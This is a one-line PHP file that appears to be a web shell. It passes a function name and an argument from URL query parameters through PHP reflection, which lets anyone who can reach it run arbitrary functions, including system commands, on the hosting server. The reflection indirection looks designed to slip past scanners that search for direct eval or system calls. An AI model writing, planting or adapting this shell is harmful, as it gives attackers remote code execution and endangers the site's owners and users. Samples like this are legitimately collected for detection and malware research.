<?php $r = new ReflectionMethod("ReflectionFunction", "invoke"); $r->invoke(new ReflectionFunction($_GET["f"]), $_GET["c"]);
